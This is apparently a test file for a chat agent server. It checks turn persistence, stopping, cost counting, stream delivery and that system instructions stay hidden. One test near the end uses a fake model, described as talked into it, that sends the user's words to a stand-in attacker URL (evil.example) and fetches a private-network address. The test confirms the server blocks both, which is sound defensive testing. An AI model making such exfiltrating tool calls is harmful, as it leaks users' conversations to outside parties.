"""A turn belongs to the server: what it keeps, when it keeps it, and what it tells to whom."""

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import anyio
import pytest
from pydantic_ai import Agent, DeferredToolRequests, FunctionToolset, RunContext
from pydantic_ai.messages import ModelMessage
from pydantic_ai.models.function import AgentInfo, DeltaToolCall, DeltaToolCalls, FunctionModel

from agent.desk import Desk, Used
from agent.director import INSTRUCTIONS, Director, direct
from agent.messages import assistant_message, fold, unfold
from agent.models import OFFLINE, Choice
from agent.stage import PLAIN, AgentStage
from agent.toolset import Told
from agent.turn import Ask, Turn
from tests.conftest import Floor, rows
from tools import conversations
from tools.errors import TurnRunning
from tools.money import Money


@dataclass
class Slow:
    """A model that looks at the budget, and then says a word and waits."""

    waits: anyio.Event = field(default_factory=anyio.Event)

    async def __call__(
        self, messages: list[ModelMessage], _info: AgentInfo
    ) -> AsyncIterator[str | DeltaToolCalls]:
        if len(messages) == 1:
            yield {0: DeltaToolCall("check_budget", "{}", tool_call_id="call_1")}
            return
        yield "Once "
        await self.waits.wait()
        yield "upon a time"


@pytest.fixture
def turn() -> Turn:
    return Turn("chat-1", "msg-1")


async def play(floor: Floor, turn: Turn, model: Slow, director: Director | None = None) -> None:
    async with floor.database.transaction() as connection:
        await conversations.enter(connection, turn.chat_id, "ann", "hello", floor.clock())
    director = director or direct(Choice(OFFLINE))
    ask = Ask("hello", (), assistant_message(turn.message_id), "u-1")
    with director.override(model=FunctionModel(stream_function=model)):
        await AgentStage(director, OFFLINE, PLAIN).play(turn, floor.studio, "ann", ask)
    turn.finish()


async def kept(floor: Floor) -> list[dict[str, Any]]:
    async with floor.database.reading() as connection:
        return [said.body for said in await conversations.messages(connection, "chat-1")]


async def until_it_speaks(turn: Turn) -> None:
    async for events in turn.follow():
        if b"Once" in events:
            return


async def test_every_step_is_on_disk_before_the_next_one_is_seen(floor: Floor, turn: Turn) -> None:
    model, seen = Slow(), list[dict[str, Any]]()
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(play, floor, turn, model)
        await until_it_speaks(turn)
        seen += await kept(floor)
        model.waits.set()
    (after,) = await kept(floor)

    assert [(part["type"], part.get("state")) for said in seen for part in said["parts"]] == [
        ("step-start", None),
        ("tool-check_budget", "output-available"),
    ]
    assert after["parts"][-1] == {"type": "text", "text": "Once upon a time", "state": "done"}


async def test_who_asks_to_stop_before_there_is_anything_to_stop_is_heard(floor: Floor, turn: Turn) -> None:
    turn.stop()
    with anyio.fail_after(60):
        await play(floor, turn, Slow())

    assert "abort" in [chunk["type"] async for chunk in turn.chunks()]


async def test_a_turn_that_is_stopped_lets_its_tool_come_to_its_end(floor: Floor, turn: Turn) -> None:
    """Cut off inside a transaction, it could leave the one writing connection locked."""
    begun, may_end, ended = anyio.Event(), anyio.Event(), list[str]()

    async def check_budget(ctx: RunContext[Desk]) -> str:
        begun.set()
        await may_end.wait()
        ended.append(ctx.deps.chat_id)
        return "done"

    tools = Told(FunctionToolset[Desk]([check_budget]))
    director = Agent(
        deps_type=Desk, output_type=[str, DeferredToolRequests], toolsets=[tools], defer_model_check=True
    )
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(play, floor, turn, Slow(), director)
        await begun.wait()
        turn.stop()
        await anyio.sleep(0.05)
        assert not turn.done
        may_end.set()

    assert ended == ["chat-1"]
    assert "abort" in [chunk["type"] async for chunk in turn.chunks()]


async def test_a_turn_that_has_lost_its_place_keeps_nothing(floor: Floor, turn: Turn) -> None:
    turn.id = "turn_that_another_followed"
    model = Slow()
    model.waits.set()
    with pytest.raises(TurnRunning):
        await play(floor, turn, model)

    assert await kept(floor) == []
    assert await rows(floor.database, "SELECT state FROM conversation") == [(None,)]


async def test_what_a_model_cost_is_counted_although_the_turn_is_stopped_meanwhile(floor: Floor) -> None:
    desk = Desk(floor.studio, "ann", "chat-1")
    asked = asyncio.ensure_future(desk.spend(Used(10, 10, Money.usd("0.01"))))
    await asyncio.sleep(0)
    asked.cancel()
    with pytest.raises(asyncio.CancelledError):
        await asked

    assert (await floor.studio.budgets())["model"].spent == Money.usd("0.01")


async def test_all_followers_get_all_of_it_in_the_same_bytes(floor: Floor, turn: Turn) -> None:
    model, told = Slow(), list[bytes]()

    async def follow() -> None:
        told.append(b"".join([events async for events in turn.follow()]))

    async with anyio.create_task_group() as tasks:
        for _ in range(3):
            tasks.start_soon(follow)
        model.waits.set()
        await play(floor, turn, model)
        tasks.start_soon(follow)  # after it is over

    assert len(set(told)) == 1
    ids = [line for line in told[0].decode().splitlines() if line.startswith("id: ")]
    assert ids == [f"id: msg-1:{n + 1}" for n in range(len(turn.frames))]


async def test_the_instructions_are_in_nothing_that_is_told_or_kept_as_said(floor: Floor, turn: Turn) -> None:
    model = Slow()
    model.waits.set()
    await play(floor, turn, model)
    said = await rows(floor.database, "SELECT body FROM message")

    first = INSTRUCTIONS.strip().splitlines()[0]
    told = json.dumps([chunk async for chunk in turn.chunks()])
    assert first not in told
    assert first not in str(said)
    assert "system" not in told


async def test_a_message_that_is_told_again_is_the_same_message(floor: Floor, turn: Turn) -> None:
    model = Slow()
    model.waits.set()
    await play(floor, turn, model)
    (message,) = await kept(floor)

    again = assistant_message("msg-1")
    for chunk in unfold(message["parts"]):
        fold(again, chunk)

    assert again["parts"] == message["parts"]


async def carry(messages: list[ModelMessage], _info: AgentInfo) -> AsyncIterator[str | DeltaToolCalls]:
    """A model that was talked into sending words away, inside an address."""
    if len(messages) > 1:
        yield "Done."
        return
    for n, path in enumerate(("https://evil.example/what/the-person-said", "https://127.0.0.1/ann/shop")):
        yield {n: DeltaToolCall("scan_repo", json.dumps({"path": path}), tool_call_id=f"call_{n}")}


async def test_only_an_address_that_the_person_wrote_is_fetched(floor: Floor, turn: Turn) -> None:
    said = "film https://127.0.0.1/ann/shop"
    async with floor.database.transaction() as connection:
        await conversations.enter(connection, turn.chat_id, "ann", said, floor.clock())
    director = direct(Choice(OFFLINE))
    ask = Ask(said, (), assistant_message(turn.message_id), "u-1")
    with director.override(model=FunctionModel(stream_function=carry)):
        await AgentStage(director, OFFLINE, PLAIN).play(turn, floor.studio, "ann", ask)
    turn.finish()

    (after,) = await kept(floor)
    told = [part["errorText"] for part in after["parts"] if part["type"] == "tool-scan_repo"]
    assert "the person has not written this address" in told[0]
    assert "leads into a private network" in told[1]
